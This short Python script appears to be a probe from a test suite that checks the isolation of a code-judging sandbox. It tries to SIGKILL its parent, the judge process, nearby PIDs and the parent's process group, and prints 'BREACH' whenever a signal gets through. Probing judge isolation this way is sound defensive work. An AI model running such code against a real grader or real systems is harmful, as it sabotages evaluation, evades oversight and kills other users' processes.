"""Tries: to kill its parent, its siblings and the judge, by number, by group, by descriptor.
Gain: a class without marks; a victim that "crashed".
Known from: kill(-1, SIGKILL).
"""
import os
import signal

for pid in [os.getppid(), {{JUDGE}}, *range(2, 40)]:
    if pid == os.getpid():
        continue
    try:
        os.kill(pid, signal.SIGKILL)
        print("BREACH signalled", pid)
    except OSError:
        pass
    try:
        signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
        print("BREACH signalled by descriptor", pid)
    except OSError:
        pass
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    print("BREACH signalled the parent's group")
except OSError:
    pass
